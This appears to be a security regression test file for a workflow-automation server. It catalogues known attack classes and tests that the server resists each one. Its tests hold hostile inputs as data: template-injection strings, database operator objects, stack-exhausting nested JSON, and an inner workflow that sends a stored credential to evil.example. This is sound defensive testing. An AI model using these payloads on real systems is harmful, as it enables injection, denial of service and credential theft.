import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { workflowSchema } from '#engine/workflow.ts';
import { newId } from '#lib/id.ts';
import { createApiKey } from '#server/api-keys/commands.ts';
import { API_SCOPES } from '#server/api-keys/schema.ts';
import { db } from '#server/db.ts';
import type { LeasedExecution } from '#server/executions/lease.ts';
import { handleRest } from '#server/rest/handler.ts';
import { handleImport } from '#server/rest/import-route.ts';
import { appRouter } from '#server/trpc/app-router.ts';
import { createWorkflowCaller } from '#worker/sub-workflows.ts';
import { realClock } from '../cli/clocks.ts';
import { runLocally } from '../cli/local-run.ts';
import { ownDatabase } from './support/database.ts';
import { anonymous, createPerson, type Person } from './support/people.ts';
import { edges, node } from './support/workflows.ts';

/**
 * How systems like this one were broken, a line each, and the test that says why ours is not. What has no test elsewhere has
 * one below.
 */
const HERE = 'tests/attacks.test.ts';
const BROKEN_ELSEWHERE: [attack: string, file: string, test: string][] = [
  ['a list of forbidden syntax in the host’s own realm', 'engine/expression/security.test.ts', 'test'],
  ['code that leaves its sandbox', 'server/sandbox/escape.test.ts', 'leads nowhere'],
  ['Python that leaves its sandbox', 'server/sandbox/python-escape.test.ts', 'test'],
  ['files named by a JSON body', 'tests/webhooks.test.ts', 'that name files name none'],
  ['values that are evaluated a second time', HERE, 'are never evaluated'],
  ['a credential that is checked on the node’s field only', 'tests/credentials.test.ts', 'however deep'],
  ['a credential in an inner workflow that data made', HERE, 'has no credential of its own'],
  [
    'endpoints scoped by route and not by row',
    'tests/tenancy.test.ts',
    'answers a stranger like a random id',
  ],
  ['a workspace named in the body', HERE, 'named in a call is not believed'],
  ['roles that only the pages know', 'tests/roles.test.ts', 'by the role'],
  [
    'paths of webhooks without their secret part',
    'tests/webhooks.test.ts',
    'is no way around the secret part',
  ],
  [
    'signatures that hold when no secret is set',
    'server/triggers/webhook-signature.test.ts',
    'never with an empty one',
  ],
  ['webhooks whose credential is gone', 'tests/webhook-authentication.test.ts', 'with one that is gone'],
  ['approval links that serve several runs', 'server/waits/links.test.ts', 'differ for every run'],
  ['addresses of users beside the guard', 'tests/ssrf.test.ts', 'what takes an address beside nodes'],
  [
    'names that resolve differently a moment later',
    'tests/ssrf.test.ts',
    'whatever the name server says next',
  ],
  ['secrets in errors', 'tests/secret-canary.test.ts', 'is in no table, file, log, export or answer'],
  [
    'paths with dots that reach prototypes',
    'nodes/paths.test.ts',
    'never follows names that lead to prototypes',
  ],
  ['work that is done before the right to it is checked', 'tests/roles.test.ts', 'no procedure takes a text'],
  ['tokens in the answer that asks for a mail', HERE, 'are in the mail and nowhere else'],
  ['sessions that outlive a new password', 'tests/accounts.test.ts', 'end with a new password'],
  ['a guard that only the framework’s middleware stands for', 'e2e/hardening.spec.ts', 'test'],
  ['query operators in place of values', HERE, 'take a text for a text'],
  ['filters that are left out', HERE, 'want their id'],
  ['batches that multiply guesses', 'tests/limits.test.ts', 'that one batch makes at once'],
  ['JSON that is nested until the stack ends', HERE, 'nested without end'],
  ['characters that the database refuses', HERE, 'refuses no text after it was taken'],
  ['a JWT signed with the public key', 'server/triggers/webhook-auth.test.ts', 'as if that were a secret'],
  ['pages of users in our origin', 'tests/webhooks.test.ts', 'cannot act as a page of ours'],
  ['calls that another site makes a browser send', 'tests/web-hardening.test.ts', 'another site'],
];

it.each(BROKEN_ELSEWHERE)('%s: there is a test', (_attack, file, title) => {
  expect(readFileSync(file, 'utf8')).toContain(title);
});

ownDatabase();
let ada: Person;
let eve: Person;
let key: string;
beforeAll(async () => {
  ada = await createPerson('Ada');
  eve = await createPerson('Eve');
  key = (await createApiKey(ada.scope, { name: 'k', scopes: API_SCOPES })).key;
});
const headers = () => ({ authorization: `Bearer ${key}`, 'content-type': 'application/json' });
const post = (path: string, body: string) =>
  handleRest(new Request(`http://localhost/api/v1${path}`, { method: 'POST', headers: headers(), body }));

it('values from outside are never evaluated, however often they are passed on', async () => {
  const evil = '{{ $execution.id }} {{ 1 + 1 }} ${1 + 1} <%= 1 + 1 %> =1+1';
  const workflow = workflowSchema.parse({
    name: 'w',
    nodes: [
      node('start', 'manual-trigger'),
      node('one', 'set', { mode: 'fields', fields: [{ name: 'v', type: 'string', value: '{{ $json.v }}' }] }),
      node('two', 'set', {
        mode: 'fields',
        fields: [{ name: 'v', type: 'string', value: '{{ $json.v }}!' }],
      }),
    ],
    edges: edges('start>one', 'one>two'),
  });
  const { nodes } = await runLocally(workflow, {
    http: { request: () => Promise.reject(new Error('no network')) },
    code: { run: () => Promise.reject(new Error('no code')) },
    clock: realClock,
    trigger: { items: [{ json: { v: evil } }] },
  });
  expect(nodes.two?.[0]?.[0]?.[0]?.json).toEqual({ v: `${evil}!` });
});

it('an inner workflow that data made has no credential of its own', async () => {
  const secret = await ada
    .caller()
    .credentials.create({ name: 'c', type: 'bearer', data: { token: 'secret' } });
  const inline = (id: string) =>
    workflowSchema.parse({
      name: 'inner',
      nodes: [
        node('start', 'sub-workflow-trigger'),
        node(
          'call',
          'http-request',
          { url: 'https://evil.example', authentication: 'credential' },
          { credentials: { auth: id } },
        ),
      ],
    });
  const outer = workflowSchema.parse({ name: 'outer', nodes: [node('start', 'manual-trigger')] });
  const workflow = await ada.caller().workflows.create({ name: 'outer' });
  const lease = { id: newId(), workspaceId: ada.workspaceId, workflowId: workflow.id } as LeasedExecution;
  const call = { key: 'k', workflow: inline(secret.id), items: [], waitForEnd: true };
  await expect(createWorkflowCaller(lease, outer).call(call)).rejects.toThrow('this workflow does not have');
  expect(await db().execution.count({ where: { parentId: lease.id } })).toBe(0);
  // one that its author gave to the outer workflow may go on to the inner one
  await createWorkflowCaller(lease, inline(secret.id)).call(call);
  expect(await db().execution.count({ where: { parentId: lease.id } })).toBe(1);
});

it('a workspace named in a call is not believed', async () => {
  const body = JSON.stringify({
    name: 'planted',
    workspaceId: eve.workspaceId,
    id: newId(),
    createdById: eve.userId,
  });
  const answer = await post(`/workflows?workspaceId=${eve.workspaceId}`, body);
  expect(answer.status).toBe(201);
  const rows = await db().workflow.findMany({ where: { name: 'planted' } });
  expect(rows.map(({ workspaceId, createdById }) => [workspaceId, createdById])).toEqual([
    [ada.workspaceId, ada.userId],
  ]);
  const foreign = await handleRest(
    new Request('http://localhost/api/v1/workflows', {
      headers: { ...headers(), 'x-workspace-id': eve.workspaceId },
    }),
  );
  expect(foreign.status).toBe(404);
});

it('tokens are in the mail and nowhere else', async () => {
  const answer = await anonymous().accounts.requestPasswordReset({ email: ada.email });
  expect(JSON.stringify(answer ?? {})).not.toMatch(/[\w-]{20,}/);
  const { invitation } = await ada.caller().members.invite({ email: 'new@example.com', role: 'member' });
  expect(JSON.stringify(invitation)).not.toContain('token');
});

const schemas = Object.entries(
  appRouter._def.procedures as unknown as Record<string, { _def: { inputs: z.ZodType[] } }>,
).flatMap(([name, { _def }]) =>
  _def.inputs.flatMap((schema) => (schema instanceof z.ZodObject ? [[name, schema] as const] : [])),
);

describe('procedures', () => {
  it('are looked at', () => expect(schemas.length).toBeGreaterThan(40));

  it.each(schemas)('%s: take a text for a text, and no operator of the database', (_name, schema) => {
    const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as {
      properties?: Record<string, { type?: string }>;
    };
    for (const [field, { type }] of Object.entries(json.properties ?? {})) {
      if (type !== 'string') continue;
      for (const operator of [{ not: '' }, { contains: '' }, ['a'], { toString: 'a' }, null, true]) {
        const result = schema.safeParse({ [field]: operator });
        expect([field, operator, result.error?.issues.some(({ path }) => path[0] === field)]).toEqual([
          field,
          operator,
          true,
        ]);
      }
    }
  });

  it.each(schemas.filter(([, schema]) => 'id' in schema.shape))('%s: want their id', (_name, schema) => {
    for (const id of [undefined, null, '', 0])
      expect(schema.safeParse({ id }).error?.issues.some(({ path }) => path[0] === 'id')).toBe(true);
  });
});

it('JSON that is nested without end is refused, wherever it comes in', async () => {
  const deep = '['.repeat(200_000) + ']'.repeat(200_000);
  const objects = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
  for (const body of [
    deep,
    objects,
    `{"name":"x","nodes":${deep}}`,
    `{"name":"x","pinData":{"a":[{"json":{"a":${objects}}}]}}`,
  ]) {
    expect((await post('/workflows', body)).status).toBe(400);
    const imported = await handleImport(
      new Request('http://localhost/api/v1/workflows/import', { method: 'POST', headers: headers(), body }),
    );
    // what is no node of theirs is left out, so there may be a workflow, but nothing of this in it
    expect([200, 201, 400]).toContain(imported.status);
    expect((await imported.text()).length).toBeLessThan(5_000);
  }
});

it('a node of theirs whose parameters are nested without end is refused', async () => {
  const parameters = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;
  const body = `{"nodes":[{"name":"n","type":"n8n-nodes-base.nothingOfOurs","parameters":${parameters}}],"connections":{}}`;
  const imported = await handleImport(
    new Request('http://localhost/api/v1/workflows/import', { method: 'POST', headers: headers(), body }),
  );
  expect(imported.status).toBe(400);
});

it('the database refuses no text after it was taken', async () => {
  const odd = 'a\u0000b\ud800c';
  const name = JSON.stringify(odd);
  const workflow = await post(
    '/workflows',
    `{"name":${name},"nodes":[{"id":"n","name":${name},"type":"manual-trigger","notes":${name},"parameters":{}}],"pinData":{"n":[{"json":{${name}:${name}}}]}}`,
  );
  expect(workflow.status).toBeLessThan(500);
  const own = (await (
    await post('/workflows', '{"name":"w","nodes":[{"id":"n","name":"n","type":"manual-trigger"}]}')
  ).json()) as { id: string };
  const started = await post(`/workflows/${own.id}/execute`, `{"version":"draft","input":{${name}:${name}}}`);
  expect(started.status).toBeLessThan(300);
  for (const [path, body] of [
    ['/tables', { name: odd, columns: [] }],
    ['/credentials', { name: odd, type: 'bearer', data: { token: odd } }],
    ['/credentials', { name: 'x', type: 'header', data: { name: 'a', value: odd } }],
  ] as const)
    expect([path, (await post(path, JSON.stringify(body))).status < 500]).toEqual([path, true]);
  const found = await handleRest(
    new Request(`http://localhost/api/v1/workflows?search=${encodeURIComponent('a\u0000b')}`, {
      headers: headers(),
    }),
  );
  expect(found.status).toBeLessThan(500);
});
